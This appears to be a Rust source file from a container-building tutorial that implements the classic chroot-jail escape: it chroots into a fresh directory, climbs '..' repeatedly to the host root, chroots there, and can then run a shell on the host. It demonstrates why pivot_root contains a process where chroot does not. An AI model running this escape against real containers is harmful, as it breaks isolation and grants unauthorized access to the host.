// ANCHOR: breakout
//! `breakout`: the classic escape from a chroot jail, to run inside one.
//!
//! chroot(2) changes one thing: the directory a process's `/` resolves to.
//! It does not move the current directory, and the kernel only stops `..` at
//! the process's root if the walk passes *through* that root. So a process
//! that may call chroot (root, CAP_SYS_CHROOT) can:
//!
//! 1. make a directory and chroot into it, leaving its current directory
//!    outside its new root;
//! 2. `chdir("..")` again and again: the walk never meets the root, so it
//!    climbs up to the real `/` of the host;
//! 3. `chroot(".")` there: its root is now the host's root.
//!
//! Chapter 1's container falls to this; chapter 2's does not, because
//! pivot_root moved the whole mount namespace onto the rootfs and detached
//! the old root, so there is nothing above `/` left to climb to.
//!
//! With arguments, `breakout CMD [ARG]...` runs CMD in the escaped root (try
//! `breakout /bin/sh` and look around). Exit status: 0 escaped, 1 contained,
//! 2 the attempt itself failed.
//!
//! Only `std`: the demo image's build script compiles this file as a static
//! binary so it runs inside an image with no C library.

use std::fs::{self, File};
use std::os::unix::fs::{chroot, MetadataExt};
use std::os::unix::io::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{exit, Command};

fn main() {
    let command: Vec<String> = std::env::args().skip(1).collect();
    match escape() {
        Ok(Outcome::Escaped { jail }) => {
            println!("escaped: / is now the host's root, not the container's");
            if let Some(jail) = jail {
                println!("the jail was {}", jail.display());
            }
            println!(
                "host hostname: {}",
                read_trimmed("/proc/sys/kernel/hostname")
            );
            if let Some(name) = os_name() {
                println!("host system: {name}");
            }
            if let Some((program, args)) = command.split_first() {
                let error = Command::new(program).args(args).exec();
                eprintln!("breakout: cannot run {program}: {error}");
                exit(2);
            }
        }
        Ok(Outcome::Contained) => {
            println!("contained: climbing '..' stopped at the container's own root");
            exit(1);
        }
        Err(message) => {
            eprintln!("breakout: {message}");
            exit(2);
        }
    }
}

enum Outcome {
    /// The jail path on the host, when /proc could tell it.
    Escaped {
        jail: Option<PathBuf>,
    },
    Contained,
}

// ANCHOR: escape
fn escape() -> Result<Outcome, String> {
    // Remember the jail: its identity to compare against, and an open
    // descriptor, which survives chroot and later tells us where it was.
    let before = identity("/")?;
    let jail_root = File::open("/").map_err(|e| format!("cannot open /: {e}"))?;

    // Step 1: a fresh directory to chroot into. /tmp is writable even for a
    // mapped root that owns nothing else in the image.
    let parent = if Path::new("/tmp").is_dir() {
        "/tmp"
    } else {
        "/"
    };
    let dir = format!("{parent}/.breakout-{}", std::process::id());
    fs::create_dir(&dir).map_err(|e| format!("cannot create {dir}: {e}"))?;
    chroot(&dir).map_err(|e| format!("chroot {dir}: {e} (is this process root?)"))?;

    // Step 2: the current directory is still the jail's root, which is now
    // *outside* our root, so nothing stops the climb.
    for _ in 0..256 {
        std::env::set_current_dir("..").map_err(|e| format!("chdir ..: {e}"))?;
    }

    // Step 3: make wherever we ended up the root.
    chroot(".").map_err(|e| format!("chroot .: {e}"))?;
    std::env::set_current_dir("/").map_err(|e| format!("chdir /: {e}"))?;

    if identity("/")? == before {
        // Still inside: the directory is where we made it.
        let _ = fs::remove_dir(&dir);
        return Ok(Outcome::Contained);
    }

    // Outside. The host's /proc names the jail our descriptor points at;
    // use it to tidy up the directory we made there.
    let jail = fs::read_link(format!("/proc/self/fd/{}", jail_root.as_raw_fd())).ok();
    if let Some(jail) = &jail {
        let _ = fs::remove_dir(jail.join(dir.trim_start_matches('/')));
    }
    Ok(Outcome::Escaped { jail })
}
// ANCHOR_END: escape

/// Device and inode number: what makes a directory the same directory.
fn identity(path: &str) -> Result<(u64, u64), String> {
    let meta = fs::metadata(path).map_err(|e| format!("cannot stat {path}: {e}"))?;
    Ok((meta.dev(), meta.ino()))
}

fn read_trimmed(path: &str) -> String {
    fs::read_to_string(path)
        .map(|s| s.trim().to_string())
        .unwrap_or_else(|_| "(unreadable)".to_string())
}

/// PRETTY_NAME from /etc/os-release, the host's, once we are out.
fn os_name() -> Option<String> {
    let text = fs::read_to_string("/etc/os-release").ok()?;
    text.lines()
        .find_map(|l| l.strip_prefix("PRETTY_NAME="))
        .map(|v| v.trim_matches('"').to_string())
}
// ANCHOR_END: breakout
